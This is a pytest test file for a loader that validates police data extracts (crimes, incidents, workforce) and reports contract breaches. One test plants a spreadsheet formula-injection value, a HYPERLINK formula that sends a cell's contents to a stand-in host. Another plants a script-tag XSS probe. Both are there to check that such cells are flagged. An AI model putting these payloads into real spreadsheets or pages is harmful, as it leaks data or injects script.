"""Loading with validation: every way an extract can break the contract names file, column and rows."""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from helpers.config import PROJECT_ROOT
from helpers.contract.extracts import EXTRACTS
from helpers.sources import loading
from helpers.sources.loading import (
    DataValidationError,
    LoadReport,
    fingerprint,
    load_extract,
    load_extracts,
)


# --------------------------------------------------------------------------- fixtures
def crimes_rows() -> list[dict]:
    base = {
        "offence_group": "Burglary",
        "victim_based": "true",
        "district": "Basildon",
        "domestic_abuse": "false",
        "da_risk_level": "",
        "night_time_economy": "false",
        "rural": "false",
        "business": "false",
        "class_a_supply": "false",
        "victim_id": "V1",
        "outcome_type": "",
        "outcome_date": "",
        "evidence_led_prosecution": "false",
    }
    return [
        {**base, "crime_id": "C1", "recorded_date": "2016-04-01"},
        {**base, "crime_id": "C2", "recorded_date": "2016-04-02", "district": "Harlow",
         "outcome_type": "charge_summons", "outcome_date": "2016-05-01", "victim_id": "V2"},
        {**base, "crime_id": "C3", "recorded_date": "2016-05-03", "offence_group": "Drug offences",
         "victim_based": "false", "victim_id": "", "domestic_abuse": "true",
         "da_risk_level": "high"},
        {**base, "crime_id": "C4", "recorded_date": "2016-06-04", "district": "Tendring"},
    ]  # fmt: skip


def incidents_rows() -> list[dict]:
    base = {
        "urban_rural": "urban",
        "district": "Chelmsford",
        "domestic_abuse": "false",
        "asb": "false",
        "alcohol": "false",
        "drugs": "false",
        "mental_health": "false",
        "victim_id": "",
    }
    return [
        {**base, "incident_id": "I1", "opened_at": "2016-04-01 10:00:00",
         "arrived_at": "2016-04-01 10:12:00", "grade": "1"},
        {**base, "incident_id": "I2", "opened_at": "2016-04-02 23:59:59", "arrived_at": "",
         "grade": "3", "urban_rural": "rural", "asb": "TRUE"},
        {**base, "incident_id": "I3", "opened_at": "2016-04-03 08:00:00",
         "arrived_at": "2016-04-03 08:30:00", "grade": "2", "domestic_abuse": "yes",
         "victim_id": "V9"},
    ]  # fmt: skip


def workforce_rows() -> list[dict]:
    return [
        {"month": "2016-04", "group": g, "strength_fte": "100.5", "days_lost": "12"}
        for g in ("officer", "staff", "pcso")
    ]


def collisions_rows() -> list[dict]:
    return [
        {"collision_id": "K1", "collision_date": "2016-04-01", "district": "Basildon"},
        {"collision_id": "K2", "collision_date": "2016-04-02", "district": "Maldon"},
    ]


ROWS = {
    "crimes": crimes_rows,
    "incidents": incidents_rows,
    "workforce": workforce_rows,
    "collisions": collisions_rows,
}


def write_csv(folder, name, rows=None, columns=None, text=None, encoding="utf-8"):
    """Write an extract CSV (all cells as text, exactly as given) and return its path."""
    path = folder / f"{name}.csv"
    if text is None:
        rows = ROWS[name]() if rows is None else rows
        columns = columns or EXTRACTS[name].column_names
        lines = [",".join(columns)]
        for r in rows:
            cells = []
            for c in columns:
                v = str(r.get(c, ""))
                cells.append('"' + v.replace('"', '""') + '"' if any(x in v for x in ',"\n') else v)
            lines.append(",".join(cells))
        text = "\n".join(lines) + "\n"
    path.write_bytes(text.encode(encoding) if isinstance(text, str) else text)
    return path


def load_error(folder, name) -> str:
    with pytest.raises(DataValidationError) as info:
        load_extract(folder, name)
    return str(info.value)


# --------------------------------------------------------------------------- good files
@pytest.mark.parametrize("name", sorted(ROWS))
def test_good_csv_loads_in_contract_order_and_dtypes(tmp_path, name):
    write_csv(tmp_path, name)
    frame = load_extract(tmp_path, name)
    extract = EXTRACTS[name]
    assert list(frame.columns) == extract.column_names
    assert len(frame) == len(ROWS[name]())
    assert isinstance(frame.index, pd.RangeIndex)
    for col in extract.columns:
        dtype = frame[col.name].dtype
        if col.type in ("date", "datetime", "month"):
            assert dtype == "datetime64[ns]", col.name
        elif col.type == "int":
            assert dtype == ("Int64" if col.nullable else "int64"), col.name
        elif col.type == "float":
            assert dtype == "float64", col.name
        elif col.type == "bool":
            # a nullable flag with every cell filled is plain bool (empty cells give "boolean")
            assert dtype == np.dtype(bool), col.name
        elif col.type == "str":
            # Arrow-backed text, NaN for empty: no Python object per row
            assert dtype == loading.TEXT_DTYPE, col.name
        else:
            assert isinstance(dtype, pd.CategoricalDtype), col.name
            if col.name == extract.district_column:
                assert dtype.categories[-1] == loading.UNASSIGNED, col.name
                assert len(dtype.categories) == len(loading.districts()) + 1, col.name
            else:
                assert list(dtype.categories) == list(col.allowed), col.name


def test_csv_values_are_converted_not_guessed(tmp_path):
    write_csv(tmp_path, "incidents")
    frame = load_extract(tmp_path, "incidents")
    assert frame["grade"].tolist() == [1, 3, 2]
    assert frame["asb"].tolist() == [False, True, False]  # "TRUE" is true
    assert frame["domestic_abuse"].tolist() == [False, False, True]  # "yes" is true
    assert pd.isna(frame.loc[1, "arrived_at"])
    assert frame.loc[0, "arrived_at"] == pd.Timestamp("2016-04-01 10:12:00")
    assert pd.isna(frame.loc[0, "victim_id"])  # empty text is NaN, not ""
    assert frame.loc[2, "victim_id"] == "V9"


def test_month_is_the_first_day_of_the_month(tmp_path):
    write_csv(tmp_path, "workforce")
    frame = load_extract(tmp_path, "workforce")
    assert (frame["month"] == pd.Timestamp("2016-04-01")).all()


@pytest.mark.parametrize("name", sorted(ROWS))
def test_good_csv_and_good_parquet_load_to_identical_frames(tmp_path, name):
    csv_dir, pq_dir = tmp_path / "csv", tmp_path / "parquet"
    csv_dir.mkdir()
    pq_dir.mkdir()
    write_csv(csv_dir, name)
    from_csv = load_extract(csv_dir, name)
    # A parquet written the usual way: typed columns, None (not NaN) for empty text.
    typed = from_csv.copy()
    for c in typed.columns[typed.dtypes == np.dtype(object)]:
        typed[c] = typed[c].where(typed[c].notna(), None)
    typed.to_parquet(pq_dir / f"{name}.parquet", index=False)
    from_parquet = load_extract(pq_dir, name)
    pd.testing.assert_frame_equal(from_csv, from_parquet)


def test_parquet_with_date32_categorical_and_nullable_types_is_converted(tmp_path):
    frame = pd.DataFrame(
        {
            "collision_id": pd.Series(["K1", "K2"], dtype="string"),
            "collision_date": [dt.date(2016, 4, 1), dt.date(2016, 4, 2)],
            "district": pd.Categorical(["Basildon", "Maldon"]),
        }
    )
    frame.to_parquet(tmp_path / "collisions.parquet", index=False)
    csv_dir = tmp_path / "csv"
    csv_dir.mkdir()
    write_csv(csv_dir, "collisions")
    pd.testing.assert_frame_equal(
        load_extract(tmp_path, "collisions"), load_extract(csv_dir, "collisions")
    )


def test_parquet_in_several_row_groups_loads_like_one(tmp_path):
    write_csv(tmp_path, "crimes")
    frame = load_extract(tmp_path, "crimes")
    (tmp_path / "crimes.csv").unlink()
    frame.to_parquet(tmp_path / "crimes.parquet", row_group_size=1)
    pd.testing.assert_frame_equal(load_extract(tmp_path, "crimes"), frame)


def test_parquet_id_saved_as_the_index_is_a_column(tmp_path):
    frame = pd.DataFrame(collisions_rows()).set_index("collision_id")
    frame["collision_date"] = pd.to_datetime(frame["collision_date"])
    frame.to_parquet(tmp_path / "collisions.parquet")
    assert load_extract(tmp_path, "collisions")["collision_id"].tolist() == ["K1", "K2"]


def test_parquet_is_preferred_and_the_shadowed_csv_is_reported(tmp_path):
    write_csv(tmp_path, "collisions")
    pd.DataFrame(collisions_rows()[:1]).assign(
        collision_date=pd.Timestamp("2016-04-01")
    ).to_parquet(tmp_path / "collisions.parquet")
    report = LoadReport()
    frames = load_extracts(tmp_path, report=report)
    assert len(frames["collisions"]) == 1
    assert report.extracts["collisions"].format == "parquet"
    assert any("collisions.csv" in f for f in report.ignored_files)


# --------------------------------------------------------------------------- each failure
def test_missing_file_asked_for_by_name(tmp_path):
    message = load_error(tmp_path, "crimes")
    assert "crimes.parquet" in message and "crimes.csv" in message
    assert "not found" in message
    assert str(tmp_path) not in message


def test_absent_file_is_not_an_error_when_loading_a_folder(tmp_path):
    write_csv(tmp_path, "collisions")
    report = LoadReport()
    frames = load_extracts(tmp_path, report=report)
    assert list(frames) == ["collisions"]
    assert "crimes" in report.absent


def test_unreadable_parquet(tmp_path):
    (tmp_path / "collisions.parquet").write_bytes(b"this is not parquet at all")
    message = load_error(tmp_path, "collisions")
    assert "collisions.parquet" in message
    assert "cannot be read as parquet" in message
    assert str(tmp_path) not in message


def test_csv_with_a_ragged_line_is_unreadable_with_its_line(tmp_path):
    write_csv(
        tmp_path,
        "collisions",
        text="collision_id,collision_date,district\nK1,2016-04-01,Maldon,extra\n",
    )
    message = load_error(tmp_path, "collisions")
    assert "collisions.csv" in message and "cannot be read as CSV" in message
    assert "line 2" in message


def test_missing_column(tmp_path):
    cols = [c for c in EXTRACTS["crimes"].column_names if c != "recorded_date"]
    write_csv(tmp_path, "crimes", columns=cols)
    message = load_error(tmp_path, "crimes")
    assert "crimes.csv" in message
    assert "column 'recorded_date': is missing" in message


def test_missing_column_hints_at_a_near_miss(tmp_path):
    cols = ["Collision_ID", "collision_date", "district"]
    rows = [{"Collision_ID": "K1", "collision_date": "2016-04-01", "district": "Maldon"}]
    write_csv(tmp_path, "collisions", rows=rows, columns=cols)
    message = load_error(tmp_path, "collisions")
    assert "column 'collision_id': is missing (found 'Collision_ID'" in message


def test_wrong_type_text_in_an_int_column(tmp_path):
    rows = incidents_rows()
    rows[1]["grade"] = "high"
    write_csv(tmp_path, "incidents", rows=rows)
    message = load_error(tmp_path, "incidents")
    assert "incidents.csv" in message
    assert "column 'grade': 1 row is not a whole number — e.g. row 3: 'high'" in message


def test_wrong_type_fraction_in_an_int_column(tmp_path):
    rows = incidents_rows()
    rows[0]["grade"] = "1.5"
    write_csv(tmp_path, "incidents", rows=rows)
    assert "column 'grade': 1 row is not a whole number — e.g. row 2: '1.5'" in load_error(
        tmp_path, "incidents"
    )


def test_wrong_type_text_in_a_bool_column(tmp_path):
    rows = crimes_rows()
    rows[3]["rural"] = "maybe"
    write_csv(tmp_path, "crimes", rows=rows)
    message = load_error(tmp_path, "crimes")
    assert "column 'rural'" in message and "row 5: 'maybe'" in message


def test_wrong_type_in_parquet_numbers_in_a_date_column(tmp_path):
    frame = pd.DataFrame(
        {"collision_id": ["K1"], "collision_date": [20160401], "district": ["Maldon"]}
    )
    frame.to_parquet(tmp_path / "collisions.parquet")
    message = load_error(tmp_path, "collisions")
    assert "collisions.parquet" in message
    assert "column 'collision_date': 1 row is not a date (the column holds int64)" in message
    assert "row 1: 20160401" in message


@pytest.mark.parametrize("bad", ["2016-13-01", "01/04/2016", "yesterday", "2016-04"])
def test_unparseable_date(tmp_path, bad):
    rows = crimes_rows()
    rows[2]["recorded_date"] = bad
    write_csv(tmp_path, "crimes", rows=rows)
    message = load_error(tmp_path, "crimes")
    assert "crimes.csv" in message
    assert "column 'recorded_date': 1 row is not a date in the form YYYY-MM-DD" in message
    assert f"row 4: '{bad}'" in message


def test_unparseable_datetime_and_time_zone(tmp_path):
    rows = incidents_rows()
    rows[0]["opened_at"] = "2016-04-01 25:00:00"
    rows[2]["opened_at"] = "2016-04-03T08:00:00+01:00"
    write_csv(tmp_path, "incidents", rows=rows)
    message = load_error(tmp_path, "incidents")
    assert "column 'opened_at': 1 row is not a date and time in the form" in message
    assert "row 2: '2016-04-01 25:00:00'" in message
    assert "column 'opened_at': 1 row has a time zone" in message
    assert "row 4: '2016-04-03T08:00:00+01:00'" in message


def test_date_with_a_time_of_day_is_refused_but_midnight_is_fine(tmp_path):
    rows = collisions_rows()
    rows[0]["collision_date"] = "2016-04-01 00:00:00"
    rows[1]["collision_date"] = "2016-04-02 13:45:00"
    write_csv(tmp_path, "collisions", rows=rows)
    message = load_error(tmp_path, "collisions")
    assert "column 'collision_date': 1 row has a time of day" in message
    assert "row 3: '2016-04-02 13:45:00'" in message


def test_month_not_on_the_first_is_refused(tmp_path):
    rows = workforce_rows()
    rows[0]["month"] = "2016-04-01"  # accepted: a date on the 1st
    rows[1]["month"] = "2016-04-15"
    write_csv(tmp_path, "workforce", rows=rows)
    message = load_error(tmp_path, "workforce")
    assert "column 'month': 1 row is not a month" in message and "row 3: '2016-04-15'" in message


def test_unknown_district(tmp_path):
    rows = crimes_rows()
    rows[1]["district"] = "Gotham"
    rows[3]["district"] = "basildon"
    write_csv(tmp_path, "crimes", rows=rows)
    message = load_error(tmp_path, "crimes")
    assert "crimes.csv" in message
    assert "column 'district': 2 rows are not a district of profiles/demo/districts.csv" in message
    assert "row 3: 'Gotham'" in message and "row 5: 'basildon'" in message


def test_unknown_msg_force(tmp_path):
    text = "period_end,force,question,respondents,agreeing\n2016-03,Gotham Police,police_good_job,10,5\n"
    write_csv(tmp_path, "confidence_survey", text=text)
    message = load_error(tmp_path, "confidence_survey")
    assert "column 'force': 1 row is not a force of profiles/demo/msg_forces.csv" in message
    assert "row 2: 'Gotham Police'" in message


def test_duplicate_id(tmp_path):
    rows = crimes_rows()
    rows[3]["crime_id"] = "C1"
    write_csv(tmp_path, "crimes", rows=rows)
    message = load_error(tmp_path, "crimes")
    assert "crimes.csv" in message
    assert "column 'crime_id': 2 rows repeat a value that must be unique (crime_id)" in message
    assert "row 2: 'C1'" in message and "row 5: 'C1'" in message


def test_duplicate_compound_key(tmp_path):
    rows = workforce_rows()
    rows[2]["group"] = "officer"
    write_csv(tmp_path, "workforce", rows=rows)
    message = load_error(tmp_path, "workforce")
    assert "column 'month + group': 2 rows repeat a value that must be unique" in message
    assert "row 4: 2016-04-01 00:00:00 / 'officer'" in message


@pytest.mark.parametrize(
    "text",
    ["", "collision_id,collision_date,district\n", "collision_id,collision_date,district\n,,\n\n"],
)
def test_empty_extract(tmp_path, text):
    write_csv(tmp_path, "collisions", text=text)
    message = load_error(tmp_path, "collisions")
    assert "collisions.csv" in message
    assert "is empty" in message or "has no rows" in message


def test_empty_parquet_extract(tmp_path):
    frame = pd.DataFrame({"collision_id": pd.Series([], dtype=object),
                          "collision_date": pd.Series([], dtype="datetime64[ns]"),
                          "district": pd.Series([], dtype=object)})  # fmt: skip
    frame.to_parquet(tmp_path / "collisions.parquet")
    assert "collisions.parquet: \n" not in load_error(tmp_path, "collisions")
    assert "has no rows" in load_error(tmp_path, "collisions")


def test_bad_category(tmp_path):
    rows = crimes_rows()
    rows[0]["offence_group"] = "Burglary "
    rows[2]["da_risk_level"] = "HIGH"
    write_csv(tmp_path, "crimes", rows=rows)
    message = load_error(tmp_path, "crimes")
    assert "column 'offence_group': 1 row is not one of the allowed values" in message
    assert "row 2: 'Burglary '" in message
    assert (
        "column 'da_risk_level': 1 row is not one of the allowed values (standard, medium, high)"
        in message
    )
    assert "row 4: 'HIGH'" in message


def test_null_in_a_non_nullable_column(tmp_path):
    rows = crimes_rows()
    rows[1]["crime_id"] = "   "
    rows[2]["recorded_date"] = ""
    write_csv(tmp_path, "crimes", rows=rows)
    message = load_error(tmp_path, "crimes")
    assert (
        "column 'crime_id': 1 row is empty (this column must have a value) — e.g. row 3: '   '"
        in message
    )
    assert "column 'recorded_date': 1 row is empty" in message and "row 4: ''" in message


# ------------------------------------------------------------- columns a source does not record
def _unrecorded_crimes() -> list[dict]:
    """Crimes of April to June 2016: night_time_economy never filled, domestic_abuse filled in
    April and May except one cell in May, rural only in June."""
    rows = crimes_rows()
    for r in rows:
        r["night_time_economy"] = ""
        r["rural"] = "" if r["recorded_date"] < "2016-06" else "true"
    rows[2]["domestic_abuse"] = ""  # May: another May row has it (below)
    rows.append({**rows[0], "crime_id": "C5", "recorded_date": "2016-05-09", "rural": ""})
    rows[3]["domestic_abuse"] = ""  # June: the only June row
    return rows


def test_unrecorded_flags_load_as_nullable_boolean(tmp_path):
    write_csv(tmp_path, "crimes", rows=_unrecorded_crimes())
    frame = load_extract(tmp_path, "crimes")
    assert frame["night_time_economy"].dtype == "boolean"
    assert frame["night_time_economy"].isna().all()
    assert frame["domestic_abuse"].dtype == "boolean"
    assert frame["domestic_abuse"].isna().tolist() == [False, False, True, True, False]
    assert frame["business"].dtype == bool  # every cell filled: plain bool


def test_unrecorded_flags_load_the_same_from_csv_and_parquet(tmp_path):
    csv_dir, pq_dir, pa_dir = tmp_path / "csv", tmp_path / "pq", tmp_path / "arrow"
    for d in (csv_dir, pq_dir, pa_dir):
        d.mkdir()
    write_csv(csv_dir, "crimes", rows=_unrecorded_crimes())
    from_csv = load_extract(csv_dir, "crimes")
    typed = from_csv.copy()
    for c in typed.columns[typed.dtypes == np.dtype(object)]:
        typed[c] = typed[c].where(typed[c].notna(), None)
    typed.to_parquet(pq_dir / "crimes.parquet", index=False)  # pandas "boolean" with pd.NA
    pd.testing.assert_frame_equal(load_extract(pq_dir, "crimes"), from_csv)
    # written by another tool: a plain Arrow bool column with nulls, no pandas metadata
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.Table.from_pandas(typed, preserve_index=False).replace_schema_metadata(None)
    pq.write_table(table, pa_dir / "crimes.parquet")
    pd.testing.assert_frame_equal(load_extract(pa_dir, "crimes"), from_csv)


def test_load_report_lists_unrecorded_months_and_counts_partly_empty_flags(tmp_path):
    write_csv(tmp_path, "crimes", rows=_unrecorded_crimes())
    report = LoadReport()
    load_extracts(tmp_path, ["crimes"], report)
    r = report.extracts["crimes"]
    assert r.not_recorded == {
        "domestic_abuse": ["2016-06"],
        "night_time_economy": ["2016-04", "2016-05", "2016-06"],
        "rural": ["2016-04", "2016-05"],
    }
    # the May cell is empty while another May crime records the flag: counted as not flagged
    assert r.empty_where_recorded == {"domestic_abuse": 1}
    warnings = report.warnings()
    assert any(
        "not recorded by the source" in w
        and "night_time_economy (every month)" in w
        and "rural (2016-04 to 2016-05)" in w
        and "domestic_abuse (2016-06)" in w
        for w in warnings
    ), warnings
    assert any(
        "column 'domestic_abuse' is empty in 1 row of months where other rows record it" in w
        for w in warnings
    ), warnings
    entry = report.to_dict()["extracts"]["crimes"]
    assert entry["not_recorded"]["night_time_economy"] == ["2016-04", "2016-05", "2016-06"]
    assert entry["empty_where_recorded"] == {"domestic_abuse": 1}


def test_a_complete_extract_reports_nothing_unrecorded(tmp_path):
    write_csv(tmp_path, "crimes")
    report = LoadReport()
    load_extracts(tmp_path, ["crimes"], report)
    assert report.extracts["crimes"].not_recorded == {}
    assert report.extracts["crimes"].empty_where_recorded == {}
    assert not any("not recorded" in w for w in report.warnings())


@pytest.mark.parametrize("value", ["maybe", "2"])
def test_an_unrecorded_flag_still_refuses_values_that_are_not_true_or_false(tmp_path, value):
    rows = _unrecorded_crimes()
    rows[0]["night_time_economy"] = value
    write_csv(tmp_path, "crimes", rows=rows)
    message = load_error(tmp_path, "crimes")
    assert "column 'night_time_economy': 1 row is not true/false" in message


def test_unrecorded_grade_and_urban_rural_may_be_empty(tmp_path):
    rows = incidents_rows()
    for r in rows:
        r["grade"], r["urban_rural"] = "", ""
    write_csv(tmp_path, "incidents", rows=rows)
    report = LoadReport()
    frame = load_extracts(tmp_path, ["incidents"], report)["incidents"]
    assert frame["grade"].dtype == "Int64" and frame["grade"].isna().all()
    assert frame["urban_rural"].isna().all()
    assert report.extracts["incidents"].not_recorded == {
        "grade": ["2016-04"],
        "urban_rural": ["2016-04"],
    }


def test_null_in_parquet_non_nullable_bool(tmp_path):
    frame = pd.DataFrame({"test_id": ["T1", "T2"], "test_date": pd.to_datetime(["2016-04-01"] * 2),
                          "district": ["Maldon"] * 2, "positive": [True, None]})  # fmt: skip
    frame.to_parquet(tmp_path / "drug_tests.parquet")
    message = load_error(tmp_path, "drug_tests")
    assert "column 'positive': 1 row is empty" in message and "row 2: (empty)" in message


@pytest.mark.parametrize(
    ("grade", "what"), [("0", "below the minimum 1"), ("5", "above the maximum 4")]
)
def test_out_of_range(tmp_path, grade, what):
    rows = incidents_rows()
    rows[2]["grade"] = grade
    write_csv(tmp_path, "incidents", rows=rows)
    message = load_error(tmp_path, "incidents")
    assert "incidents.csv" in message
    assert f"column 'grade': 1 row is {what} — e.g. row 4: '{grade}'" in message


def test_out_of_range_in_parquet_floats(tmp_path):
    frame = pd.DataFrame({"month": pd.to_datetime(["2016-04-01"]), "group": ["officer"],
                          "strength_fte": [-3.0], "days_lost": [np.inf]})  # fmt: skip
    frame.to_parquet(tmp_path / "workforce.parquet")
    message = load_error(tmp_path, "workforce")
    assert "column 'strength_fte': 1 row is below the minimum 0 — e.g. row 1: -3.0" in message
    assert "column 'days_lost': 1 row is infinite" in message


def test_non_utf8_csv_names_the_byte_offset_and_line(tmp_path):
    text = "collision_id,collision_date,district\nK1,2016-04-01,Maldon\nK2,2016-04-02,Southend-on-Sea\u00e9\n"
    write_csv(tmp_path, "collisions", text=text, encoding="cp1252")
    message = load_error(tmp_path, "collisions")
    assert "collisions.csv" in message
    assert "is not UTF-8 text: byte 0xE9" in message
    offset = text.encode("cp1252").index(b"\xe9")
    assert f"at byte offset {offset:,} (line 3)" in message


def test_utf8_bom_is_accepted(tmp_path):
    write_csv(tmp_path, "collisions")
    path = tmp_path / "collisions.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert list(load_extract(tmp_path, "collisions").columns)[0] == "collision_id"


def test_long_string_in_an_id_column(tmp_path):
    rows = crimes_rows()
    rows[2]["victim_id"] = "A" * 1500
    write_csv(tmp_path, "crimes", rows=rows)
    message = load_error(tmp_path, "crimes")
    assert "crimes.csv" in message
    assert "column 'victim_id': 1 row is longer than 1,000 characters" in message
    assert "row 4: '" + "A" * 60 + "…' (1,500 characters)" in message
    assert "A" * 61 not in message


def test_outcome_before_recorded_date_breaks_a_row_rule(tmp_path):
    rows = crimes_rows()
    rows[1]["outcome_date"] = "2016-03-01"
    write_csv(tmp_path, "crimes", rows=rows)
    message = load_error(tmp_path, "crimes")
    assert "column 'outcome_date': 1 row has an outcome date before the recorded date" in message
    assert "row 3: recorded_date=2016-04-02 00:00:00, outcome_date=2016-03-01 00:00:00" in message


def test_offender_of_an_unknown_crime_is_refused(tmp_path):
    write_csv(tmp_path, "crimes")
    text = "crime_id,offender_id,age_at_offence\nC1,O1,15\nC99,O2,30\n"
    write_csv(tmp_path, "crime_offenders", text=text)
    with pytest.raises(DataValidationError) as info:
        load_extracts(tmp_path)
    message = str(info.value)
    assert "crime_offenders.csv" in message
    assert "column 'crime_id': 1 row is not a crime_id of crimes.csv — e.g. row 3: 'C99'" in message


def test_all_problems_of_a_file_are_listed_in_one_error(tmp_path):
    rows = crimes_rows()
    rows[0]["recorded_date"] = "soon"
    rows[1]["district"] = "Gotham"
    rows[3]["crime_id"] = "C3"
    write_csv(tmp_path, "crimes", rows=rows)
    with pytest.raises(DataValidationError) as info:
        load_extract(tmp_path, "crimes")
    columns = {p.column for p in info.value.problems}
    assert columns == {"recorded_date", "district", "crime_id"}
    assert all(p.file == "crimes.csv" for p in info.value.problems)


def test_more_than_five_offending_rows_show_five_examples(tmp_path):
    rows = [{"collision_id": f"K{i}", "collision_date": "2016-04-01", "district": "Nowhere"}
            for i in range(8)]  # fmt: skip
    write_csv(tmp_path, "collisions", rows=rows)
    with pytest.raises(DataValidationError) as info:
        load_extract(tmp_path, "collisions")
    (problem,) = info.value.problems
    assert problem.rows == 8
    assert [r for r, _ in problem.examples] == [2, 3, 4, 5, 6]
    assert "— e.g. row 2: 'Nowhere'" in str(info.value) and ", …" in str(info.value)


# --------------------------------------------------------------------------- nothing half-loaded
def test_nothing_is_half_loaded(tmp_path):
    write_csv(tmp_path, "collisions")  # good, and first in the loop below
    rows = crimes_rows()
    rows[0]["recorded_date"] = "never"
    write_csv(tmp_path, "crimes", rows=rows)  # bad
    report = LoadReport()
    result = None
    with pytest.raises(DataValidationError) as info:
        result = load_extracts(tmp_path, ["collisions", "crimes"], report)
    assert result is None
    assert "crimes.csv" in str(info.value) and "collisions.csv" not in str(info.value)
    assert report.extracts["collisions"].rows_loaded == 0
    assert report.errors and report.errors[0].startswith("crimes.csv: column 'recorded_date'")


def test_problems_of_several_files_come_in_one_error(tmp_path):
    rows = collisions_rows()
    rows[0]["district"] = "Gotham"
    write_csv(tmp_path, "collisions", rows=rows)
    rows = crimes_rows()
    rows[0]["recorded_date"] = "never"
    write_csv(tmp_path, "crimes", rows=rows)
    with pytest.raises(DataValidationError) as info:
        load_extracts(tmp_path)
    message = str(info.value)
    assert message.startswith("2 extract files do not meet the data contract")
    assert "\ncrimes.csv:\n" in message and "\ncollisions.csv:\n" in message


# --------------------------------------------------------------------------- report
def test_empty_district_is_unassigned_and_counted(tmp_path):
    rows = crimes_rows()
    rows[0]["district"] = ""
    rows[2]["district"] = " "
    rows[3]["district"] = "Unassigned"
    write_csv(tmp_path, "crimes", rows=rows)
    report = LoadReport()
    frame = load_extracts(tmp_path, report=report)["crimes"]
    assert frame["district"].tolist() == ["Unassigned", "Harlow", "Unassigned", "Unassigned"]
    entry = report.extracts["crimes"]
    assert (entry.unassigned_mapped, entry.unassigned_in_file, entry.rows_unassigned) == (2, 1, 3)
    assert entry.rows_read == entry.rows_loaded == 4
    assert any("2 rows with an empty district" in w for w in report.warnings())


def test_report_reconciles_rows_and_lists_extra_columns(tmp_path):
    cols = EXTRACTS["collisions"].column_names + ["notes"]
    rows = [dict(r, notes="x") for r in collisions_rows()]
    text = write_csv(tmp_path, "collisions", rows=rows, columns=cols).read_text()
    (tmp_path / "collisions.csv").write_text(text + "\n,,,\n")  # a blank line and an empty record
    (tmp_path / "colisions.csv").write_text("typo")
    report = LoadReport()
    frames = load_extracts(tmp_path, report=report)
    assert list(frames["collisions"].columns) == EXTRACTS["collisions"].column_names
    entry = report.extracts["collisions"]
    assert entry.extra_columns_ignored == ["notes"]
    assert (entry.rows_read, entry.rows_loaded, entry.blank_lines_skipped) == (2, 2, 2)
    assert (entry.date_from, entry.date_to) == ("2016-04-01", "2016-04-02")
    assert report.ignored_files == ["colisions.csv (not an extract of the contract)"]
    as_dict = report.to_dict()
    assert json.loads(json.dumps(as_dict)) == as_dict
    assert as_dict["extracts"]["collisions"]["file"] == "collisions.csv"


def test_formula_like_text_is_kept_verbatim_and_reported(tmp_path):
    rows = crimes_rows()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows[0]["victim_id"] = formula
    rows[1]["victim_id"] = "@SUM(1+1)"
    rows[3]["crime_id"] = "-C4"
    write_csv(tmp_path, "crimes", rows=rows)
    report = LoadReport()
    frame = load_extracts(tmp_path, report=report)["crimes"]
    assert frame.loc[0, "victim_id"] == formula
    assert frame.loc[1, "victim_id"] == "@SUM(1+1)"
    assert frame.loc[3, "crime_id"] == "-C4"
    entry = report.extracts["crimes"]
    assert entry.formula_like_cells == 3
    assert "row 2, column 'victim_id'" in entry.formula_like_examples
    assert formula not in json.dumps(report.to_dict())  # the run record holds no values


def test_html_text_is_loaded_as_is(tmp_path):
    rows = crimes_rows()
    rows[0]["victim_id"] = "<script>alert('x')</script>"
    write_csv(tmp_path, "crimes", rows=rows)
    assert load_extract(tmp_path, "crimes").loc[0, "victim_id"] == "<script>alert('x')</script>"


# --------------------------------------------------------------------------- paths and fingerprint
def test_files_inside_the_project_are_named_relative_to_it():
    assert (
        loading.display_name(PROJECT_ROOT / "data" / "demo" / "crimes.parquet")
        == "data/demo/crimes.parquet"
    )
    assert loading.display_name(PROJECT_ROOT.parent / "elsewhere" / "crimes.csv") == "crimes.csv"


def test_fingerprint_follows_content_not_location(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    write_csv(a, "collisions")
    write_csv(b, "collisions")
    (b / "readme.txt").write_text("not an extract")
    assert fingerprint(a) == fingerprint(b)
    assert len(fingerprint(a)) == 64
    rows = collisions_rows()
    rows[1]["district"] = "Harlow"
    write_csv(b, "collisions", rows=rows)
    assert fingerprint(a) != fingerprint(b)


def test_every_module_of_the_loading_package_is_in_the_cube_cache_key(tmp_path, monkeypatch):
    """A change to any module of the loading package can change a cube's numbers: the cube's
    fingerprint reads them all, and an edit to one of them changes it."""
    from pathlib import Path

    from helpers.measures import cube

    package = Path(loading.__file__).resolve().parent
    modules = sorted(package.glob("*.py"))
    imported = {
        Path(m.__file__).resolve()
        for name, m in list(sys.modules.items())
        if name.startswith("helpers.sources.loading.") and getattr(m, "__file__", None)
    }
    assert {p.stem for p in modules} >= {"__init__", "api", "checks", "extract", "files"}
    assert imported and imported <= set(modules)
    original = Path.read_bytes
    read: list[Path] = []

    def recording(self):
        read.append(self.resolve())
        return original(self)

    monkeypatch.setattr(Path, "read_bytes", recording)
    write_csv(tmp_path, "collisions")
    before = cube.fingerprint(tmp_path)
    assert [p for p in read if p.parent == package] == modules

    def edited(self):
        data = original(self)
        return data + b"\n# edited\n" if self.resolve() == package / "checks.py" else data

    monkeypatch.setattr(Path, "read_bytes", edited)
    assert cube.fingerprint(tmp_path) != before


def test_the_command_line_checks_a_folder(tmp_path):
    """``python -m helpers.sources.loading <folder>`` (the package's ``__main__``)."""
    write_csv(tmp_path, "collisions")
    done = subprocess.run(
        [sys.executable, "-m", "helpers.sources.loading", str(tmp_path)],
        capture_output=True,
        text=True,
        cwd=PROJECT_ROOT,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "collisions.csv: 2 rows loaded of 2 read" in done.stdout
    assert "absent: " in done.stdout


def test_unknown_extract_name_is_a_key_error(tmp_path):
    with pytest.raises(KeyError, match="unknown extract 'crime'"):
        load_extract(tmp_path, "crime")


def test_a_column_twice_in_the_header_is_refused(tmp_path):
    text = "collision_id,collision_date,district,district\nK1,2016-04-01,Maldon,Harlow\n"
    write_csv(tmp_path, "collisions", text=text)
    assert "column 'district': appears more than once in the header" in load_error(
        tmp_path, "collisions"
    )


def test_parquet_ids_written_as_whole_numbers_are_text(tmp_path):
    frame = pd.DataFrame({"collision_id": [101, 102], "collision_date": ["2016-04-01", "2016-04-02"],
                          "district": ["Basildon", "Maldon"]})  # fmt: skip
    frame.to_parquet(tmp_path / "collisions.parquet")
    loaded = load_extract(tmp_path, "collisions")
